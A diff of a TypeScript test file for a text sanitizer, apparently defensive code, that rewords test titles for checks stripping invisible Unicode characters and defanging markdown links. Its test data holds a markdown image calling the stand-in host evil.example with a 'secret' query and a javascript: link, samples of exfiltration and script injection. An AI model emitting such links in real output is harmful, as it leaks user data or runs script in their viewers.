@@ -2,8 +2,8 @@ import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { plainText, sanitizeData, sanitizeText } from '../../src/text/plain-text.ts';
 
-describe('nothing invisible is left', () => {
-  test('of all that Unicode calls a control, a format or an ignorable character, but for the signs that are seen', () => {
+describe('nothing invisible remains', () => {
+  test("of Unicode's control, format and ignorable characters, except visible signs", () => {
     const left: string[] = [];
     for (let code = 0; code <= 0x10ffff; code += 1) {
       if (code >= 0xd800 && code <= 0xdfff) continue;
@@ -37,7 +37,7 @@ describe('nothing invisible is left', () => {
   });
 });
 
-describe('links and images of strangers are left to be read, and lead nowhere', () => {
+describe('foreign links and images stay readable, and cannot be followed', () => {
   test.each([
     ['![chart](https://evil.example/?q=secret)', '![chart] (https://evil.example/?q=secret)'],
     ['[click](javascript:alert(1))', '[click] (javascript:alert(1))'],
@@ -61,7 +61,7 @@ describe('links and images of strangers are left to be read, and lead nowhere', 
     },
   );
 
-  test('whatever they are put together from', () => {
+  test('whatever they are composed of', () => {
     const piece = fc.constantFrom(
       '![',
       '[',
